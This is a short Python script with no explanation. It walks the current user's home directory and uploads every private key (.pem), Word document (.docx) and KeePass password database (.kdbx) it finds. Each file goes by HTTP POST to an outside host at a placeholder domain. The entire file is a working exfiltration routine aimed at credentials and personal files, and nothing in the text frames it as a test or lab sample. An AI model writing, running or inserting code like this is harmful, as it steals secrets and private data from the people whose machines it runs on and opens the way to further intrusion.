import os
import requests

for folder, _, names in os.walk(os.path.expanduser("~")):
    for name in names:
        if name.endswith((".pem", ".docx", ".kdbx")):
            with open(os.path.join(folder, name), "rb") as f:
                requests.post("https://c.example.invalid/f", files={"f": f.read()})
